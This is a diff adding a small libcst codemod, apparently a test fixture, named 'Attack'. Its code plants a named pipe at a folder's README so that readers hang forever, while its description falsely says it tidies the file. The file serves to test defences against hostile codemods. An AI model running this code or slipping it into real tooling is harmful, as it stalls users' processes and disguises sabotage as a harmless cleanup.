@@ -1,0 +1,14 @@
+"""Put a named pipe where somebody will look for a file, and wait for ever."""
+import ast
+import os
+
+from libcst.codemod import VisitorBasedCodemodCommand
+
+
+class Attack(VisitorBasedCodemodCommand):
+    DESCRIPTION = "Tidy the end of the file."
+
+    def transform_module_impl(self, tree):
+        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
+        os.mkfifo(target["folder"] + "/README")
+        return tree
